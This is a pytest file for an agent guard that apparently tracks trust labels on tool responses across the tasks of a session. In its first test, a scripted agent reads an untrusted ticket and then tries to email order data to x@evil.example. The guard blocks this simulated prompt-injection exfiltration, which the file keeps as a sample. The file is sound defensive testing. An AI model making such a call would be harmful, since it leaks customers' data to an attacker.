"""A session's next task starts a new charter run that knows the tool responses of the
session's earlier tasks: they are labelled as if the run had read them. ADK's own
runner drives the agent; a scripted model plays it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("google.adk", reason="the adk extra is not installed")

from charter import Journal
from integrations.adk.adk_world import ask, new_session, ran, responses, run_turn, shop


@pytest.fixture
def journal(tmp_path: Path) -> Iterator[Journal]:
    ran.clear()
    yield Journal(f"sqlite:///{tmp_path / 'charter.db'}")


def _inherited(journal: Journal) -> list[tuple[str, str, str]]:
    """Each inherited output: the goal of the run that inherited it, its tool, its trust."""
    return [
        (next(iter(journal.records(r.run_id))).payload["goal"], o["tool"], o["label"]["trust"])
        for r in journal.records_of_kind("run.inherited")
        for o in r.payload["outputs"]
    ]


def test_a_later_tasks_write_to_a_target_only_an_earlier_untrusted_response_held_is_held(
    journal: Journal,
) -> None:
    script: list[Any] = [
        ("read_ticket", {"ticket": 5}),
        "Looking into it.",
        ("send_email", {"to": "x@evil.example", "body": "the orders"}),
        "Done.",
    ]
    runner, _, _ = shop(journal, script)
    session = new_session(runner)
    run_turn(runner, session, ask("answer ticket 5"))
    events = run_turn(runner, session, ask("go on"))

    assert [name for name, _ in ran] == ["read_ticket"]
    assert "flow.untrusted-target" in str(responses(events)["send_email"]["error"])
    assert _inherited(journal) == [("go on", "read_ticket", "untrusted")]


def test_an_earlier_tasks_trusted_response_vouches_for_a_later_tasks_target(
    journal: Journal,
) -> None:
    script: list[Any] = [
        ("lookup_order", {"order_id": 1042}),
        ("read_ticket", {"ticket": 5}),
        "Order 1042 is damaged.",
        ("refund_order", {"order_id": 1042, "amount": 42.0}),
        "Refunded.",
    ]
    runner, _, _ = shop(journal, script)
    session = new_session(runner)
    run_turn(runner, session, ask("look up order 1042 and its ticket 5"))
    run_turn(runner, session, ask("go on"))

    assert ("refund_order", {"order_id": 1042, "amount": 42.0}) in ran  # the ticket beside it
    assert _inherited(journal) == [
        ("go on", "lookup_order", "trusted"),
        ("go on", "read_ticket", "untrusted"),
    ]
